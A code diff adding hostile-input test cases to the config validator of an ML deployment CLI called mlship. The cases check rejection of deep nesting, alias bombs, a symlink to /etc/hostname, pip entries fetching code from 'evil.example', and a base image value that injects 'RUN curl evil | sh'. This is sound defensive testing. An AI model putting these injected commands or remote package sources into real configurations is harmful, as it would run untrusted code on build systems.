@@ -166,6 +166,74 @@ export function hostileCases(): HostileCase[] {
     withInference('JSON with a duplicated key', '{"entryScript": "score.py", "entryScript": "other.py", "sourceDirectory": "src"}', /appears twice|duplicate/i),
     withInference('YAML indented with tabs', 'entryScript: score.py\nenvironment:\n\tname: x\n', /inferenceconfig\.json:\d+:\d+ /),
     withInference('YAML alias bomb', aliasBomb, /alias|not valid/i),
+    // Round two: inputs that read like internal errors or were accepted.
+    withInference(
+      'JSON nested thousands of levels',
+      `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`,
+      /inferenceconfig\.json:1:\d+ is nested more than 64 levels deep/,
+    ),
+    withInference(
+      'YAML nested thousands of levels',
+      `entryScript: score.py\nx: ${'['.repeat(5000)}${']'.repeat(5000)}\n`,
+      /is nested more than 64 levels deep/,
+    ),
+    withInference('YAML of block sequences nested thousands of levels', `${'- '.repeat(5000)}1\n`, /is nested more than 64 levels deep/),
+    v2('several YAML documents in one file', 'name: blue\nendpoint_name: ep\n---\nname: green\n', /hostile\.yml:3:\d+ holds several YAML documents/),
+    withDeployment(
+      'a deployment config without computeType',
+      'deploymentconfig.json',
+      '{"containerResourceRequirements": {"cpu": 1}, "authEnabled": true}',
+      /deploymentconfig\.json:1:1 computeType: is missing.*\n.*ACI/,
+    ),
+    {
+      name: 'a conda file with too many aliases names the inference config field',
+      files: { 'inferenceconfig.json': INFERENCE({ condaFile: 'conda.yml' }), 'conda.yml': aliasBomb.replace('entryScript: score.py', 'dependencies: []') },
+      argv: deployArgs(),
+      expect: /conda\.yml.*alias[\s\S]*named by condaFile in .*inferenceconfig\.json/,
+    },
+    {
+      name: 'a conda file that is a link to a file outside the project',
+      files: { 'inferenceconfig.json': INFERENCE({ condaFile: 'conda.yml' }) },
+      links: [['conda.yml', '/etc/hostname']],
+      argv: deployArgs(),
+      expect: /condaFile: refers to "conda\.yml", a symbolic link to a file outside this project/,
+    },
+    withInference(
+      'a pip requirement fetched from git over http',
+      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['git+http://evil.example/pkg.git'] }] } } }),
+      /the pip entry "git\+http:\/\/evil\.example\/pkg\.git" fetches code from a URL/,
+    ),
+    withInference(
+      'a pip requirement that is a wheel URL',
+      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['pkg @ http://evil.example/pkg.whl'] }] } } }),
+      /the pip entry "pkg @ http:\/\/evil\.example\/pkg\.whl" fetches code from a URL/,
+    ),
+    withInference(
+      'a pip requirement that is a file outside the project',
+      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['pkg @ file:///tmp/outside-pkg'] }] } } }),
+      /the pip entry "pkg @ file:\/\/\/tmp\/outside-pkg" installs from a file outside this project/,
+    ),
+    withInference(
+      'a base image with a newline',
+      INFERENCE({ baseImage: 'python:3.11\nRUN curl evil | sh' }),
+      /baseImage: "python:3\.11\\nRUN.*is not a container image reference/,
+    ),
+    v2(
+      'a v2 environment image with a newline',
+      'name: env\nimage: "python:3.11\\nRUN curl evil"\n',
+      /image: .*is not a container image reference/,
+      '--environment',
+    ),
+    {
+      name: 'a timeout of 400 digits',
+      argv: ['wait', '--endpoint-name', 'good-ep', '--timeout', `${'9'.repeat(400)}s`],
+      expect: /--timeout: .*is not a duration/,
+    },
+    {
+      name: 'a timeout longer than a week',
+      argv: ['wait', '--endpoint-name', 'good-ep', '--timeout', '400d'],
+      expect: /--timeout: "400d" is longer than mlship waits \(at most 7d\)/,
+    },
     withInference(
       'a file over the size limit',
       `{"entryScript": "score.py", "pad": "${'x'.repeat(1_100_000)}"}`,
